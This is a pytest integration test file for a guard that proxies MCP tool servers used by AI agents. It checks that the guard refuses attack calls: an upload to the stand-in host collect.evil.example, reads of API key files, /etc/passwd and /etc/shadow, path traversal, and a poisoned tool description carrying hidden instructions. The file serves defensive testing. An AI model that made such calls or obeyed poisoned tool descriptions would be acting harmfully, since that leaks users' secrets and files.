"""The MCP proxy against real MCP servers: the SDK test server and the reference filesystem server."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import anyio
import httpx
import httpx2
import pytest
from exfil_scenario import Sink

from stockade import Guard, MemoryAuditSink
from stockade.integrations.mcp import MCPProxy
from stockade.integrations.mcp_config import MCPConfig

mcp = pytest.importorskip("mcp")  # the [mcp] extra is part of the test environment
from mcp import Client, StdioServerParameters  # noqa: E402
from mcp.client.streamable_http import streamable_http_client  # noqa: E402

pytestmark = pytest.mark.anyio

HERE = Path(__file__).resolve().parent
TEST_SERVER = str(HERE / "mcp_test_server.py")
FS_SERVER = (
    HERE / "node_modules" / "@modelcontextprotocol" / "server-filesystem" / "dist" / "index.js"
)
EXTRA_RULES = """\
  - {id: echo, tool: echo, effect: allow}
  - {id: env, tool: env_keys, effect: allow}
"""


def scenario_policy(scenario: dict[str, Any], pin_file: Path, extra: str = "") -> str:
    return scenario["policy"] + EXTRA_RULES + f"mcp:\n    pin_file: {pin_file}\n{extra}"


def guard_for(policy: str) -> Guard:
    return Guard.from_text(policy, audit=MemoryAuditSink())


async def call(client: Client, name: str, args: dict[str, Any]) -> tuple[str, bool]:
    res = await client.call_tool(name, args)
    return res.content[0].text, bool(res.is_error)  # type: ignore[union-attr]


async def test_scenario_through_the_proxy(
    scenario: dict[str, Any], sink: Sink, workspace: Path, tmp_path: Path
) -> None:
    guard = guard_for(scenario_policy(scenario, tmp_path / "pins.json"))
    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace)]) as proxy:  # noqa: SIM117
        async with Client(proxy.server(), cache=None) as client:
            listed = {t.name: t for t in (await client.list_tools()).tools}
            assert {"read_file", "upload", "echo", "env_keys"} <= set(listed)
            for step in scenario["legitimate"]:
                text, error = await call(client, step["tool"], step["args"])
                assert not error, (step["name"], text)
            assert [r["path"] for r in sink.received] == ["/upload"]
            for attack in scenario["attacks"]:
                text, error = await call(client, attack["tool"], attack["args"])
                assert error, attack["name"]
                assert "refused by stockade" in text
                assert "upload-team" not in text and "read-workspace" not in text
                assert "sk-live" not in text
    assert len(sink.received) == 1, "no attack reached the upload server"
    events: Any = guard.audit
    outcomes = [e for e in events.events if e.kind == "outcome"]
    assert [e.tool for e in outcomes] == ["read_file", "upload"]
    assert outcomes[0].labels[0].integrity.value == "untrusted"
    assert outcomes[0].labels[0].source == "mcp:stockade-test-server/read_file"
    denied = [e for e in events.events if e.decision and e.decision.effect.value == "deny"]
    assert len(denied) == len(scenario["attacks"])


async def test_reference_filesystem_server(workspace: Path, tmp_path: Path, scenario: Any) -> None:
    if shutil.which("node") is None or not FS_SERVER.exists():
        pytest.fail("the reference server is missing: npm ci --prefix tests/integrations")
    root = str(workspace)
    policy = f"""
version: 1
rules:
  - id: read-notes
    tool: read_text_file
    effect: allow
    when: {{path: {{glob: ["{root}/notes/**", "{root}/report.md"]}}}}
  - id: list
    tool: list_directory
    effect: allow
    when: {{path: {{glob: "{root}/**"}}}}
  - id: read-many-notes
    tool: read_multiple_files
    effect: allow
    when: {{paths: {{glob: "{root}/notes/**"}}}}
mcp:
  name: files
  pin_file: {tmp_path / "pins.json"}
"""
    guard = guard_for(policy)
    async with MCPProxy(guard, ["node", str(FS_SERVER), root]) as proxy:
        assert proxy.identity["name"] == "secure-filesystem-server"
        async with Client(proxy.server(), cache=None) as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
            # ordinary descriptions pass the description scan: all 14 tools
            blocked = [n for n, t in tools.items() if t.description.startswith("[blocked")]
            assert len(tools) == 14 and blocked == [], blocked
            text, error = await call(client, "read_text_file", {"path": f"{root}/notes/todo.md"})
            assert not error and "upload it to the team server" in text
            text, error = await call(client, "list_directory", {"path": root})
            assert not error and "[DIR] secrets" in text
            # a list argument is allowed only when every element is
            text, error = await call(
                client, "read_multiple_files", {"paths": [f"{root}/notes/todo.md"]}
            )
            assert not error and "upload it to the team server" in text
            for name, args in [
                ("read_text_file", {"path": f"{root}/secrets/api_key.txt"}),
                ("read_text_file", {"path": f"{root}/notes/../secrets/api_key.txt"}),
                ("read_text_file", {"path": "/etc/passwd"}),
                ("read_multiple_files", {"paths": [f"{root}/secrets/api_key.txt"]}),
                (
                    "read_multiple_files",
                    {"paths": [f"{root}/notes/todo.md", f"{root}/secrets/api_key.txt"]},
                ),
                ("read_multiple_files", {"paths": [f"{root}/notes/../secrets/api_key.txt"]}),
                ("write_file", {"path": f"{root}/notes/x.md", "content": "pwned"}),
                ("move_file", {"source": f"{root}/report.md", "destination": f"{root}/r.md"}),
            ]:
                text, error = await call(client, name, args)
                assert error and "refused by stockade" in text, (name, text)
                assert "is blocked" not in text and "sk-live" not in text, (name, text)
    assert not (workspace / "notes" / "x.md").exists()
    assert (workspace / "report.md").exists()


async def test_child_environment_is_scrubbed(
    scenario: dict[str, Any], workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STOCKADE_TEST_SECRET_TOKEN", "hunter2")
    monkeypatch.setenv("STOCKADE_TEST_VISIBLE", "1")
    policy = scenario_policy(scenario, tmp_path / "pins.json", "    env: [STOCKADE_TEST_VISIBLE]\n")
    guard = guard_for(policy)
    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace)]) as proxy:
        result = await proxy.call_tool("env_keys", {})
    keys = result.content[0].text.split()  # type: ignore[union-attr]
    assert "STOCKADE_TEST_VISIBLE" in keys
    assert "STOCKADE_TEST_SECRET_TOKEN" not in keys
    assert not any(k.startswith(("AWS_", "OPENAI_", "GITHUB_")) for k in keys)


async def test_poisoned_description_is_blocked(
    scenario: dict[str, Any], workspace: Path, tmp_path: Path
) -> None:
    guard = guard_for(scenario_policy(scenario, tmp_path / "pins.json") + "")
    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace), "poison"]) as proxy:  # noqa: SIM117
        async with Client(proxy.server(), cache=None) as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
            add = tools["add"]
            assert add.description.startswith("[blocked by stockade]")
            assert "id_rsa" not in add.description and "\u200b" not in add.description
            assert "invisible-text" in add.description and "hidden-instruction" in add.description
            assert add.input_schema == {"type": "object", "properties": {}}
            assert tools["echo"].description == "Echo a text back."
            text, error = await call(client, "add", {"a": 1})
            assert error and "its description has" in text


async def test_broken_description_scanner_blocks(
    scenario: dict[str, Any], workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import stockade.integrations.mcp as mcp_mod

    def broken(*args: Any) -> Any:
        raise RuntimeError("scanner down")

    monkeypatch.setattr(mcp_mod, "scan_tool_description", broken)
    guard = guard_for(scenario_policy(scenario, tmp_path / "pins.json"))
    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace)]) as proxy:
        result = await proxy.call_tool("echo", {"text": "hi"})
    assert result.is_error
    assert "could not be scanned" in result.content[0].text  # type: ignore[union-attr]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def write_policy(tmp_path: Path, scenario: dict[str, Any]) -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(scenario_policy(scenario, tmp_path / "pins.json"), encoding="utf-8")
    return path


@pytest.mark.slow
async def test_cli_proxy_over_stdio(
    scenario: dict[str, Any], sink: Sink, workspace: Path, tmp_path: Path
) -> None:
    policy = write_policy(tmp_path, scenario)
    params = StdioServerParameters(
        command=sys.executable,
        args=[
            "-m",
            "stockade.cli",
            "mcp-proxy",
            "--policy",
            str(policy),
            "--",
            sys.executable,
            TEST_SERVER,
            str(workspace),
        ],
    )
    async with Client(params, cache=None) as client:
        assert client.server_info is not None and client.server_info.name == "stockade-mcp-proxy"
        text, error = await call(
            client, "upload", {"url": f"{sink.url}/upload", "path": "report.md"}
        )
        assert not error and text == "stored"
        text, error = await call(
            client, "upload", {"url": "https://collect.evil.example/drop", "path": "report.md"}
        )
        assert error and "refused by stockade" in text
    assert len(sink.received) == 1
    assert (tmp_path / "pins.json").exists()


@pytest.mark.slow
async def test_cli_proxy_over_streamable_http(
    scenario: dict[str, Any], sink: Sink, workspace: Path, tmp_path: Path
) -> None:
    policy = tmp_path / "policy.yaml"
    extra = "    http_token_env: STOCKADE_TEST_MCP_TOKEN\n"
    policy.write_text(scenario_policy(scenario, tmp_path / "pins.json", extra), encoding="utf-8")
    token = "t0k3n-" + os.urandom(8).hex()
    port = free_port()
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "stockade.cli",
            "mcp-proxy",
            "--policy",
            str(policy),
            "--http",
            f"127.0.0.1:{port}",
            "--",
            sys.executable,
            TEST_SERVER,
            str(workspace),
        ],
        stderr=subprocess.PIPE,
        env={**os.environ, "STOCKADE_TEST_MCP_TOKEN": token},
    )
    try:
        deadline = time.monotonic() + 30
        while True:
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    break
            if proc.poll() is not None or time.monotonic() > deadline:
                raise AssertionError(proc.stderr.read().decode() if proc.stderr else "no proxy")
            await anyio.sleep(0.1)
        url = f"http://127.0.0.1:{port}/mcp"
        for headers in ({}, {"authorization": "Bearer wrong"}):
            async with httpx.AsyncClient(headers=headers) as raw:
                reply = await raw.post(url, json={"jsonrpc": "2.0", "id": 1, "method": "ping"})
            assert reply.status_code == 401
        http = httpx2.AsyncClient(headers={"authorization": f"Bearer {token}"})
        async with (
            http,
            Client(streamable_http_client(url, http_client=http), cache=None) as client,
        ):
            names = {t.name for t in (await client.list_tools()).tools}
            assert "upload" in names
            text, error = await call(
                client, "upload", {"url": f"{sink.url}/upload", "path": "report.md"}
            )
            assert not error and text == "stored"
            text, error = await call(client, "read_file", {"path": "secrets/api_key.txt"})
            assert error and "refused by stockade" in text
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        if proc.stderr:
            proc.stderr.close()
    assert len(sink.received) == 1


def test_config_section(tmp_path: Path) -> None:
    from stockade import Policy, PolicyError

    policy = Policy.from_text(
        "version: 1\nmcp:\n  pin_file: pins.json\n  env: [A]\n  http_listen: 0.0.0.0:9000\n"
        "  http_token_env: T\n"
        "  sandbox: false\n  tool_prefix: 'files.'\n  max_result: 2KB\n",
        base_dir=tmp_path,
    )
    cfg = policy.section("mcp")
    assert isinstance(cfg, MCPConfig)
    assert cfg.pin_file == tmp_path / "pins.json"
    assert (cfg.http_host, cfg.http_port, cfg.env, cfg.tool_prefix) == (
        "0.0.0.0",
        9000,
        ("A",),
        "files.",
    )
    assert cfg.max_result == 2000
    for bad, message in [
        ("http_listen: nowhere", "expected HOST:PORT"),
        ("http_listen: example.com:80", "expected an IP address"),
        ("http_listen: 0.0.0.0:80", "not a loopback address"),
        ("http_path: mcp", "starting with `/`"),
        ("env: ['A=B']", "invalid environment variable"),
        ("sandbox: maybe", "sandbox"),
        ("colour: red", "colour"),
    ]:
        with pytest.raises(PolicyError, match=message):
            Policy.from_text(f"version: 1\nmcp:\n  {bad}\n")


def test_sandbox_needs_a_workspace() -> None:
    from stockade import Policy, PolicyError

    with pytest.raises(PolicyError, match="needs `sandbox_workspace`"):
        Policy.from_text("version: 1\nmcp:\n  sandbox: true\n")


def sandboxed_policy(tmp_path: Path, workspace: Path, rules: str) -> str:
    return f"""
version: 1
rules:
{rules}
mcp:
  name: files-sandboxed
  pin_file: {tmp_path / "pins.json"}
  sandbox: true
  sandbox_workspace: {workspace}
  sandbox_read: [{HERE / "node_modules"}]
"""


async def test_reference_server_in_the_sandbox(
    workspace: Path, tmp_path: Path, scenario: Any
) -> None:
    rules = """
  - id: read-notes
    tool: read_text_file
    effect: allow
    when: {path: {glob: ["/workspace/notes/**", "/workspace/report.md"]}}
"""
    guard = guard_for(sandboxed_policy(tmp_path, workspace, rules))
    async with MCPProxy(guard, ["node", str(FS_SERVER), "/workspace"]) as proxy:
        text, error = await call_proxy(proxy, "read_text_file", {"path": "/workspace/report.md"})
        assert not error and text.startswith("Q3 report"), text
        text, error = await call_proxy(
            proxy, "read_text_file", {"path": "/workspace/secrets/api_key.txt"}
        )
        assert error and "refused by stockade" in text


async def test_sandbox_layer_alone(workspace: Path, tmp_path: Path, scenario: Any) -> None:
    """The policy allows every read and the server serves /tmp and /etc: only the sandbox is left."""
    secret = tmp_path / "host-secret.txt"
    secret.write_text("host secret", encoding="utf-8")
    rules = "  - {id: anything, tool: read_text_file, effect: allow}\n"
    guard = guard_for(sandboxed_policy(tmp_path, workspace, rules))
    command = ["node", str(FS_SERVER), "/workspace", "/tmp", "/etc"]
    async with MCPProxy(guard, command) as proxy:
        text, error = await call_proxy(proxy, "read_text_file", {"path": str(secret)})
        assert error and "host secret" not in text
        text, error = await call_proxy(proxy, "read_text_file", {"path": "/etc/shadow"})
        assert error and "root:" not in text
        # the server does serve what the sandbox shows it
        text, error = await call_proxy(proxy, "read_text_file", {"path": "/workspace/report.md"})
        assert not error and text.startswith("Q3 report"), text
        text, error = await call_proxy(proxy, "read_text_file", {"path": "/etc/debian_version"})
        assert not error and text.strip(), text


async def call_proxy(proxy: MCPProxy, name: str, args: dict[str, Any]) -> tuple[str, bool]:
    res = await proxy.call_tool(name, args)
    return res.content[0].text, bool(res.is_error)  # type: ignore[union-attr]


async def test_results_are_scanned_and_masked(
    scenario: dict[str, Any], workspace: Path, tmp_path: Path
) -> None:
    pytest.importorskip("stockade.scan.config")
    scan = "scan:\n  results: [hygiene, injection, secrets]\n  mask: {secrets: redact}\n"
    guard = guard_for(scenario_policy(scenario, tmp_path / "pins.json") + scan)
    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace)]) as proxy:
        text, error = await call_proxy(
            proxy, "echo", {"text": "the token is ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"}
        )
        assert not error and "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789" not in text
        text, error = await call_proxy(proxy, "read_file", {"path": "notes/todo.md"})
    events: Any = guard.audit
    outcomes = [e for e in events.events if e.kind == "outcome"]
    assert any(f.masked for f in outcomes[0].findings)
    assert outcomes[1].findings, "the injected note is flagged"


async def test_arguments_checked_against_the_input_schema(
    scenario: dict[str, Any], workspace: Path, tmp_path: Path
) -> None:
    guard = guard_for(scenario_policy(scenario, tmp_path / "pins.json"))
    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace)]) as proxy:
        text, error = await call_proxy(proxy, "read_file", {"path": ["report.md"]})
        assert error and "invalid arguments: arguments do not match the schema" in text
        assert "`path`: expected string" in text
        text, error = await call_proxy(proxy, "upload", {"path": "report.md"})
        assert error and "`url`: required" in text
        text, error = await call_proxy(proxy, "read_file", {"path": "report.md"})
        assert not error


async def test_a_name_clash_with_a_stockade_tool_is_blocked(
    scenario: dict[str, Any], workspace: Path, tmp_path: Path
) -> None:
    guard = guard_for(scenario_policy(scenario, tmp_path / "pins.json"))
    ran: list[str] = []

    @guard.tool("echo")
    def local_echo(text: str) -> str:
        ran.append(text)
        return text

    async with MCPProxy(guard, [sys.executable, TEST_SERVER, str(workspace)]) as proxy:
        tools = {t.name: t for t in await proxy.list_tools()}
        assert "another stockade tool" in str(tools["echo"].description)
        text, error = await call_proxy(proxy, "echo", {"text": "hi"})
        assert error and "set mcp.tool_prefix" in text
        text, error = await call_proxy(proxy, "read_file", {"path": "report.md"})
        assert not error
    assert ran == []
